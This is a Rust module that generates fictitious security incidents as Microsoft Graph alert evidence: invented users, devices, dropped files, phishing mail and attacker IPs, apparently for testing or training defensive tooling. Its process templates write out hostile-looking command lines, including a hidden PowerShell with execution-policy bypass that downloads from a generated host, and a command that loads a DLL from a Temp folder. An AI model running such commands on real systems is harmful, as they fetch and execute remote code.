//! What the alerts of a made-up incident are about: ten things that belong together, spread over its alerts as products do
//! it: the main thing stands in every alert, the others in one of them.

use serde_json::{Value, json};

use super::ENTITIES;
use super::catalog::{Attack, ENDINGS, FIRST, FOLDERS, LAST, PLACES, PROGRAMS, WORDS};
use super::random::Random;

/// The things of one incident.
pub struct Scene {
    /// What kind of attack it is.
    pub attack: Attack,
    /// When it began, in seconds after 2026-01-01.
    pub begun: usize,
    things: Vec<Value>,
}

struct Person {
    account: String,
    name: String,
    entra: String,
    sid: String,
}

impl Person {
    fn new(random: &mut Random) -> Self {
        let (first, last) = (random.pick(FIRST), random.pick(LAST));
        // The domain's part of the identifier is the same throughout the organisation.
        let domain = Random(0x51D).digits(10);
        let number = random.below(40_000) + 1_100;
        Self {
            account: format!("{}.{}", first.to_lowercase(), last.to_lowercase()),
            name: format!("{first} {last}"),
            entra: random.guid(),
            sid: format!("S-1-5-21-{domain}-{}-{}-{number}", &domain[1..], &domain[2..]),
        }
    }

    fn address(&self) -> String {
        format!("{}@contoso.example", self.account)
    }

    fn json(&self) -> Value {
        json!({
            "accountName": self.account, "domainName": "CONTOSO", "userSid": self.sid, "azureAdUserId": self.entra,
            "userPrincipalName": self.address(), "displayName": self.name
        })
    }
}

fn word(random: &mut Random) -> &'static str {
    random.pick(WORDS)
}

fn site(random: &mut Random) -> String {
    format!("{}-{}{}.{}", word(random), word(random), random.below(100), random.pick(ENDINGS))
}

fn public_address(random: &mut Random) -> String {
    format!(
        "{}.{}.{}.{}",
        11 + random.below(150),
        random.below(256),
        random.below(256),
        1 + random.below(254)
    )
}

impl Scene {
    /// Thinks up what an attack of this kind is about.
    pub fn new(random: &mut Random, attack: Attack, begun: usize) -> Self {
        let mut scene = Self { attack, begun, things: Vec::new() };
        match attack {
            Attack::Endpoint => scene.endpoint(random),
            Attack::Mail => scene.mail(random),
            Attack::Identity => scene.identity(random),
        }
        assert_eq!(scene.things.len(), ENTITIES);
        scene
    }

    /// The evidence of one of so many alerts: the main thing and its share of the others.
    pub fn of_alert(&self, place: usize, of: usize, created: &str) -> Vec<Value> {
        let belongs = |at: &usize| *at == 0 || at % of == place;
        let with_time = |at: usize| {
            let mut thing = self.things[at].clone();
            thing["createdDateTime"] = created.into();
            thing
        };
        (0..self.things.len()).filter(belongs).map(with_time).collect()
    }

    fn add(&mut self, random: &mut Random, kind: &str, role: &str, mut thing: Value) {
        thing["@odata.type"] = format!("#microsoft.graph.security.{kind}Evidence").into();
        thing["verdict"] = random.pick(&["unknown", "suspicious", "malicious", "suspicious"]).into();
        thing["remediationStatus"] = random.pick(&["none", "active", "prevented", "none"]).into();
        thing["remediationStatusDetails"] = Value::Null;
        thing["roles"] = if role.is_empty() { json!([]) } else { json!([role]) };
        thing["detailedRoles"] = json!([]);
        thing["tags"] = json!([]);
        self.things.push(thing);
    }

    fn endpoint(&mut self, random: &mut Random) {
        let device = random.hex(40);
        let person = Person::new(random);
        self.add_device(random, &device, &person);
        self.add(random, "user", "compromised", json!({ "userAccount": person.json() }));
        let mut dropped = Vec::new();
        for _ in 0..2 {
            let folder = random.pick(FOLDERS).replace('@', &person.account);
            let name = format!(
                "{}{}.{}",
                word(random),
                random.below(1_000),
                random.pick(&["exe", "dll", "js", "lnk"])
            );
            let file = file(random, &name, &folder);
            let thing = json!({ "detectionStatus": "detected", "mdeDeviceId": device, "fileDetails": file });
            self.add(random, "file", "", thing);
            dropped.push(file);
        }
        // One process is what was dropped, the other a program of the operating system.
        self.add_process(random, &device, &person, dropped.first());
        self.add_process(random, &device, &person, None);
        for _ in 0..2 {
            let (country, city) = PLACES[random.below(PLACES.len())];
            let address = public_address(random);
            self.add(
                random,
                "ip",
                "commandAndControl",
                json!({ "ipAddress": address, "location": { "countryName": country, "city": city } }),
            );
        }
        let site = site(random);
        let url = format!("https://{site}/{}", random.hex(12));
        self.add(random, "dns", "", json!({ "domainName": site }));
        self.add(random, "url", "", json!({ "url": url }));
    }

    fn add_device(&mut self, random: &mut Random, device: &str, person: &Person) {
        let name = format!("{}-{:05}", random.pick(&["ws", "lt", "srv"]), random.below(100_000));
        let (lan, seen) = (
            format!("10.{}.{}.{}", random.below(64), random.below(256), random.below(256)),
            random.below(self.begun + 1),
        );
        let thing = json!({
            "firstSeenDateTime": random.moment(seen),
            "mdeDeviceId": device,
            "azureAdDeviceId": random.guid(),
            "deviceDnsName": format!("{name}.contoso.example"),
            "hostName": name,
            "ntDomain": "CONTOSO",
            "dnsDomain": "contoso.example",
            "osPlatform": random.pick(&["Windows11", "Windows10", "WindowsServer2022"]),
            "osBuild": 19_045 + random.below(8_000),
            "version": random.pick(&["22H2", "23H2", "24H2"]),
            "healthStatus": "active",
            "riskScore": random.pick(&["low", "medium", "high"]),
            "rbacGroupId": random.below(40),
            "rbacGroupName": random.pick(&["Workstations", "Servers", "UnassignedGroup"]),
            "onboardingStatus": "onboarded",
            "defenderAvStatus": "updated",
            "lastIpAddress": lan,
            "lastExternalIpAddress": public_address(random),
            "ipInterfaces": [lan],
            "loggedOnUsers": [{ "accountName": person.account, "domainName": "CONTOSO" }],
            "vmMetadata": null,
        });
        self.add(random, "device", "compromised", thing);
    }

    fn add_process(&mut self, random: &mut Random, device: &str, person: &Person, image: Option<&Value>) {
        let (program, folder) = PROGRAMS[random.below(PROGRAMS.len())];
        let (parent, parent_folder) = PROGRAMS[random.below(PROGRAMS.len())];
        let command = match random.below(3) {
            _ if image.is_some() => format!(
                "\"{}\" -{}",
                image.map_or("", |file| file["fileName"].as_str().unwrap_or("")),
                word(random)
            ),
            0 => format!(
                "\"{folder}\\{program}\" -w hidden -ep bypass -c iwr https://{}/{}",
                site(random),
                random.hex(8)
            ),
            1 => format!(
                "{program} C:\\Users\\{}\\AppData\\Local\\Temp\\{}.dll,Start",
                person.account,
                word(random)
            ),
            _ => format!("{program} /c {}{}.bat", word(random), random.below(100)),
        };
        // A program of the operating system is the same file on many devices: one of a few builds.
        let mut build = Random(random.below(6) as u64 * 31 + program.len() as u64);
        let thing = json!({
            "processId": 400 + random.below(30_000),
            "parentProcessId": 400 + random.below(30_000),
            "processCommandLine": command,
            "processCreationDateTime": random.moment(self.begun + 30),
            "parentProcessCreationDateTime": random.moment(self.begun + 2),
            "detectionStatus": "detected",
            "mdeDeviceId": device,
            "imageFile": image.cloned().unwrap_or_else(|| file(&mut build, program, folder)),
            "parentProcessImageFile": {
                "sha1": null, "sha256": null, "fileName": parent, "filePath": parent_folder, "fileSize": 731_744
            },
            "userAccount": person.json(),
        });
        self.add(random, "process", "", thing);
    }

    fn mail(&mut self, random: &mut Random) {
        let people = [Person::new(random), Person::new(random)];
        let (sender, from) = (site(random), public_address(random));
        let subject = format!("{} {} {}", word(random), word(random), random.digits(6));
        let (message, header) = (random.guid(), random.hex(32));
        let url = format!("https://{}/{}?u={}", site(random), word(random), random.hex(16));
        for person in &people {
            let thing = json!({
                "networkMessageId": message,
                "internetMessageId": format!("<{header}@{sender}>"),
                "subject": subject,
                "language": "en",
                "senderIp": from,
                "recipientEmailAddress": person.address(),
                "antiSpamDirection": "inbound",
                "deliveryAction": "delivered",
                "deliveryLocation": "inbox",
                "receivedDateTime": random.moment(self.begun),
                "p1Sender": { "emailAddress": format!("bounce@{sender}"), "domainName": sender },
                "p2Sender": { "emailAddress": format!("{}@{sender}", word(random)), "domainName": sender },
                "threats": ["Phish", "Normal"],
                "urls": [url],
                "urlCount": 1,
                "attachmentsCount": 1,
            });
            self.add(random, "analyzedMessage", "", thing);
            let mailbox = json!({ "primaryAddress": person.address(), "displayName": person.name, "userAccount": person.json() });
            self.add(random, "mailbox", "", mailbox);
            self.add(random, "user", "compromised", json!({ "userAccount": person.json() }));
        }
        self.add(random, "url", "", json!({ "url": url }));
        let (country, city) = PLACES[random.below(PLACES.len())];
        self.add(
            random,
            "ip",
            "attacker",
            json!({ "ipAddress": from, "location": { "countryName": country, "city": city } }),
        );
        let name =
            format!("{}_{}.{}", word(random), random.digits(5), random.pick(&["pdf", "docm", "html", "zip"]));
        let file = file(random, &name, "");
        self.add(random, "file", "", json!({ "detectionStatus": "detected", "fileDetails": file }));
        self.add(random, "dns", "", json!({ "domainName": sender }));
    }

    fn identity(&mut self, random: &mut Random) {
        let people = [Person::new(random), Person::new(random), Person::new(random)];
        for person in &people {
            self.add(random, "user", "compromised", json!({ "userAccount": person.json() }));
        }
        for _ in 0..4 {
            let (country, city) = PLACES[random.below(PLACES.len())];
            let address = public_address(random);
            self.add(
                random,
                "ip",
                "attacker",
                json!({ "ipAddress": address, "location": { "countryName": country, "city": city } }),
            );
        }
        let application = json!({
            "displayName": format!("{} {}", word(random), word(random)), "appId": random.guid(), "objectId": random.guid(), "publisher": null
        });
        self.add(random, "oauthApplication", "", application);
        let mailbox = json!({ "primaryAddress": people[0].address(), "displayName": people[0].name, "userAccount": people[0].json() });
        self.add(random, "mailbox", "", mailbox);
        let device = random.hex(40);
        self.add_device(random, &device, &people[0]);
    }
}

fn file(random: &mut Random, name: &str, folder: &str) -> Value {
    json!({
        "sha1": random.hex(40),
        "sha256": random.hex(64),
        "fileName": name,
        "filePath": folder,
        "fileSize": 2_000 + random.below(4_000_000),
        "filePublisher": null,
        "signer": null,
        "issuer": null,
    })
}
